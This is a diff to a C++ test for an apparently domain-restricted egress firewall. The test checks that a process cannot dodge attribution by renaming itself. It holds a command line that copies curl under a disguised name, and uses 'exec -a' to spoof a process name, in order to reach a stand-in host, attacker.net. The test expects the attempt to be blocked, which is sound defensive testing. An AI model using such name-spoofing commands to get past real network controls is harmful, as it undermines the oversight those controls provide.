@@ -100,12 +100,10 @@ TEST_P(Attribution, each_door_that_can_names_the_process_and_its_number_inside) 
 TEST_P(Attribution, NET_35_PROC_11_a_process_that_calls_itself_otherwise_is_allowed_nothing_more) {
   test_world::RunOptions options;
   options.caller = GetParam();
-  const auto result = world.run_awf(
-      {"--allow-domains", "example.org", "--audit-dir", test_world::kAuditDirectory, "--",
-       "cp -L /usr/bin/curl ./awf-egress-prox && ./awf-egress-prox -sS -m 10 "
-       "https://attacker.net/; "
-       "bash -c 'exec -a awf curl -sS -m 10 https://attacker.net/'"},
-      options);
+  const std::string line =
+      "cp -L /usr/bin/curl ./awf-egress-prox && ./awf-egress-prox -sS -m 10 https://attacker.net/; "
+      "bash -c 'exec -a awf curl -sS -m 10 https://attacker.net/'";
+  const auto result = world.run_awf({"--allow-domains", "example.org", "--", line}, options);
   EXPECT_NE(result.exit_code, 0) << result;
   EXPECT_THAT(result.output, Not(HasSubstr("hello")));
   EXPECT_THAT(world.packets_to_others(), testing::IsEmpty());
